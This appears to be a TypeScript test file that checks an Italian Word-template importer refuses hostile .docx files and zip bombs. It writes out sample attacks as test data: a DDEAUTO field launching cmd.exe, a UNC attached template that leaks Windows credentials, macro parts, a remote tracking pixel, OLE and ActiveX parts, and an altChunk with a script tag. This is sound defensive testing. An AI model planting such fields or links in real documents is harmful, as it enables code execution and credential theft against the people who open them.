/**
 * Hostile Word templates, built here part by part as an attacker (or an unlucky administrator) would
 * leave them: refused on upload by name, in Italian, and refused again when a stored one is filled,
 * so none of their parts is ever copied into a document. And zip bombs, stopped while inflating.
 */
import { Document, Packer, Paragraph } from 'docx';
import { strFromU8, strToU8, unzipSync, zipSync, type Zippable } from 'fflate';
import { describe, expect, it } from 'vitest';
import { sampleDocumentContext } from '../../../../tests/support/document-context';
import { asEntries, craftZip } from '../../../../tests/support/crafted-zip';
import { fillTemplate, readTemplate } from './index';

const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

async function cleanTemplate(): Promise<Record<string, Uint8Array>> {
  const doc = new Document({ sections: [{ children: [new Paragraph('Gentile {{tirocinante_nome}},'), new Paragraph('Torino, {{data_documento}}')] }] });
  return unzipSync(new Uint8Array(await Packer.toBuffer(doc)));
}

function text(files: Record<string, Uint8Array>, name: string): string {
  return strFromU8(files[name]!);
}

/** Adds relationships to a part's .rels (creating it when the part had none). */
function withRelationships(files: Record<string, Uint8Array>, relsName: string, relationships: string): void {
  const existing = files[relsName] ? text(files, relsName) : '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>';
  files[relsName] = strToU8(existing.replace('</Relationships>', `${relationships}</Relationships>`));
}

function withContentType(files: Record<string, Uint8Array>, entry: string): void {
  files['[Content_Types].xml'] = strToU8(text(files, '[Content_Types].xml').replace('</Types>', `${entry}</Types>`));
}

function withBody(files: Record<string, Uint8Array>, xml: string): void {
  files['word/document.xml'] = strToU8(text(files, 'word/document.xml').replace('<w:body>', `<w:body>${xml}`));
}

async function refusal(bytes: Uint8Array): Promise<string> {
  const reading = await readTemplate(bytes, 'informativa');
  expect(reading.ok).toBe(false);
  return reading.ok ? '' : reading.message;
}

async function hostile(build: (files: Record<string, Uint8Array>) => void): Promise<Uint8Array> {
  const files = await cleanTemplate();
  build(files);
  return zipSync(files as Zippable);
}

describe('a template carrying what Word would act on by itself is refused by name', () => {
  it('accepts the clean template these are built from, with a hyperlink to a web address', async () => {
    const tpl = await hostile((files) => withRelationships(files, 'word/_rels/document.xml.rels', `<Relationship Id="rIdWeb" Type="${R}/hyperlink" Target="https://www.garanteprivacy.it/" TargetMode="External"/>`));
    expect(await readTemplate(tpl, 'informativa')).toMatchObject({ ok: true, placeholders: ['tirocinante_nome', 'data_documento'] });
  });

  it('macros (vbaProject.bin in a file named .docx)', async () => {
    const tpl = await hostile((files) => {
      files['word/vbaProject.bin'] = new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 1, 2, 3]);
      withContentType(files, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>');
      withRelationships(files, 'word/_rels/document.xml.rels', `<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`);
    });
    expect(await refusal(tpl)).toBe('Il modello contiene macro (vbaProject.bin): salvalo come .docx senza macro («Documento di Word (.docx)»).');
  });

  it('a macro content type even without the part', async () => {
    const tpl = await hostile((files) => withContentType(files, '<Override PartName="/word/vbaData.bin" ContentType="application/vnd.ms-word.vbaData+xml"/>'));
    expect(await refusal(tpl)).toMatch(/^Il modello contiene macro \(application\/vnd\.ms-word\.vbaData\+xml\)/);
  });

  it('an attached template on a network share (UNC), which Word fetches with the user’s Windows credentials', async () => {
    const tpl = await hostile((files) => {
      withRelationships(files, 'word/_rels/settings.xml.rels', `<Relationship Id="rId1" Type="${R}/attachedTemplate" Target="file://\\\\192.0.2.7\\modelli\\lettera.dotm" TargetMode="External"/>`);
    });
    const message = await refusal(tpl);
    expect(message).toContain('Il modello contiene collegamenti esterni');
    expect(message).toContain('attachedTemplate → file://\\\\192.0.2.7\\modelli\\lettera.dotm');
    expect(message).toContain('togli il modello allegato');
  });

  it('a remote image', async () => {
    const tpl = await hostile((files) => withRelationships(files, 'word/_rels/document.xml.rels', `<Relationship Id="rIdImg" Type="${R}/image" Target="http://tracker.example/pixel.png" TargetMode="External"/>`));
    expect(await refusal(tpl)).toContain('collegamenti esterni che Word aprirebbe da solo a ogni apertura del documento (image → http://tracker.example/pixel.png)');
  });

  it('a hyperlink that is not a web or mail address (a file on a share)', async () => {
    const tpl = await hostile((files) => withRelationships(files, 'word/_rels/document.xml.rels', `<Relationship Id="rIdL" Type="${R}/hyperlink" Target="\\\\server\\c$\\dati.xlsx" TargetMode="External"/>`));
    expect(await refusal(tpl)).toContain('hyperlink → \\\\server\\c$\\dati.xlsx');
  });

  it('a linked OLE object (file:), named both as an object and as a link', async () => {
    const tpl = await hostile((files) => withRelationships(files, 'word/_rels/document.xml.rels', `<Relationship Id="rIdOle" Type="${R}/oleObject" Target="file:///C:/Users/Public/paghe.xlsx" TargetMode='External'/>`));
    const message = await refusal(tpl);
    expect(message).toContain('Il modello contiene oggetti OLE incorporati o controlli ActiveX (file:///C:/Users/Public/paghe.xlsx)');
    expect(message).toContain('oleObject → file:///C:/Users/Public/paghe.xlsx');
  });

  it('an embedded OLE object (embeddings/) and an ActiveX control', async () => {
    const tpl = await hostile((files) => {
      files['word/embeddings/oleObject1.bin'] = new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 9, 9]);
      files['word/activeX/activeX1.xml'] = strToU8('<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>');
    });
    expect(await refusal(tpl)).toBe(
      'Il modello contiene oggetti OLE incorporati o controlli ActiveX (word/embeddings/oleObject1.bin, word/activeX/activeX1.xml): eliminali in Word (o incollali come immagine) e salvalo di nuovo come .docx.',
    );
  });

  it('an altChunk (another file Word imports when it opens the document)', async () => {
    const tpl = await hostile((files) => {
      files['word/afchunk.mht'] = strToU8('<html><script>alert(1)</script></html>');
      withRelationships(files, 'word/_rels/document.xml.rels', `<Relationship Id="rIdAlt" Type="${R}/aFChunk" Target="afchunk.mht"/>`);
      withBody(files, '<w:altChunk r:id="rIdAlt"/>');
    });
    expect(await refusal(tpl)).toMatch(/^Il modello contiene parti importate da altri file \(altChunk: afchunk\.mht, word\/document\.xml\)/);
  });

  it('a DDEAUTO field, even with its code split across runs', async () => {
    const tpl = await hostile((files) =>
      withBody(
        files,
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
      ),
    );
    expect(await refusal(tpl)).toMatch(/^Il modello contiene campi che leggono altri file o programmi \(DDEAUTO c:/);
  });

  it('names everything found in one message', async () => {
    const tpl = await hostile((files) => {
      files['word/vbaProject.bin'] = new Uint8Array([1]);
      files['word/embeddings/oleObject1.bin'] = new Uint8Array([2]);
    });
    const message = await refusal(tpl);
    expect(message).toContain('macro (vbaProject.bin)');
    expect(message).toContain('oggetti OLE incorporati');
  });

  it('a stored template that has them is refused when filled, with the same message: nothing is copied into a document', async () => {
    const tpl = await hostile((files) => {
      files['word/vbaProject.bin'] = new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]);
    });
    await expect(fillTemplate(tpl, sampleDocumentContext('informativa'))).rejects.toMatchObject({
      code: 'VALIDATION',
      message: 'Il modello contiene macro (vbaProject.bin): salvalo come .docx senza macro («Documento di Word (.docx)»).',
    });
  });
});

describe('zip limits counted on the bytes actually inflated', () => {
  const MB = 1024 * 1024;

  it('stops a part that declares 1 KB and inflates past 32 MB, while inflating', async () => {
    const files = await cleanTemplate();
    const entries = asEntries(files);
    entries.push({ name: 'customXml/item1.xml', content: new Uint8Array(40 * MB).fill(0x20), declaredSize: 1024 });
    const bomb = craftZip(entries);
    expect(bomb.length).toBeLessThan(200 * 1024);
    expect(await refusal(bomb)).toBe('La parte «customXml/item1.xml» del file .docx, una volta aperta, supera 32 MB: non è un modello di Word normale. Aprilo in Word e salvalo di nuovo come .docx.');
  });

  it('stops parts each under their own cap that together pass 64 MB', async () => {
    const entries = asEntries(await cleanTemplate());
    for (let i = 1; i <= 3; i++) entries.push({ name: `customXml/item${i}.xml`, content: new Uint8Array(30 * MB).fill(0x20), declaredSize: 100 });
    expect(await refusal(craftZip(entries))).toMatch(/^Il file \.docx, una volta aperto, supera 64 MB: è troppo grande per essere un modello/);
  });

  it('stops a zip of thousands of tiny entries before inflating them', async () => {
    const entries = asEntries(await cleanTemplate());
    for (let i = 0; i < 5000; i++) entries.push({ name: `x/${i}.xml`, content: new Uint8Array(0) });
    expect(await refusal(craftZip(entries))).toMatch(/^Il file \.docx contiene più di 500 parti/);
  });

  it('caps each image at 8 MB, whatever the zip says', async () => {
    const entries = asEntries(await cleanTemplate());
    entries.push({ name: 'word/media/image1.png', content: new Uint8Array(9 * MB), declaredSize: 2048 });
    expect(await refusal(craftZip(entries))).toBe('L’immagine «image1.png» del modello supera 8 MB: riducila in Word (Formato immagine › Comprimi immagini) e salva di nuovo il modello.');
  });

  it('does not believe a huge declared size either: an honest small template declaring 4 GB is read by what it holds', async () => {
    const entries = asEntries(await cleanTemplate()).map((e) => (e.name === 'word/document.xml' ? { ...e, declaredSize: 0xfffffff0 } : e));
    // JSZip inside docx then refuses the lie itself, as a damaged file; nothing was allocated for 4 GB.
    expect(await refusal(craftZip(entries))).toMatch(/danneggiato/);
  });
});
